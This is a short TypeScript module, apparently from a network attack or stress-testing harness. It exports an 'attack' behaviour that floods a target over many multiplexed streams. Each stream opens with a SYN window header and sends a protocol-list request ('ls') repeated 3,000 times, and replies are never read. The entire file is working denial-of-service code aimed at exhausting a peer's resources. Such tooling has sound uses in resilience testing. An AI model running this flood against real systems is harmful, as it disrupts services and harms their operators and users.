/** Questions for the list of protocols, on many streams. */
import type { Behaviour } from '../attack/target.js'
import { data, FLAG, flooding, FRAME, header, select, streams } from '../attack/wire.js'

const LS = Buffer.concat([select('').subarray(0, 20), Buffer.from('\u0003ls\n'.repeat(3_000))])

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => streams(n, 4, (stream) => Buffer.concat([header(FRAME.window, FLAG.syn, stream, 0), data(stream, LS)])), { reads: false })
